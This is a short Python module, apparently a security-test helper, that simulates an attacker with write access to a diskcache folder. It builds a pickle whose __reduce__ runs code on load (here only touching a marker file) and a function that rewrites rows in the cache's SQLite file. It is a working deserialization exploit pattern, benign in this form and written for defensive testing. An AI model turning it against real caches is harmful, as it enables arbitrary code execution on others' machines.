"""What someone who can write a response cache folder does: rewrite diskcache's SQLite file
so that rows hold pickles that run code when loaded (each creates a marker file)."""

from __future__ import annotations

import pathlib
import pickle
import sqlite3
from pathlib import Path

#: diskcache's value modes (diskcache.core): what a row says its value is.
MODE_RAW, MODE_BINARY, MODE_TEXT, MODE_PICKLE = 1, 2, 3, 4


class Payload:
    """An attacker's cache row: unpickling it calls ``Path.touch`` on the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return pathlib.Path.touch, (pathlib.Path(self.marker),)


def payload(marker: Path) -> bytes:
    """The pickled :class:`Payload`."""
    return pickle.dumps(Payload(marker), protocol=pickle.HIGHEST_PROTOCOL)


def tamper(folder: Path, statement: str, *parameters: object) -> int:
    """Run one SQL statement on the cache folder's ``cache.db``; the rows it changed."""
    with sqlite3.connect(folder / "cache.db") as connection:
        changed = connection.execute(statement, parameters).rowcount
    connection.close()
    return changed
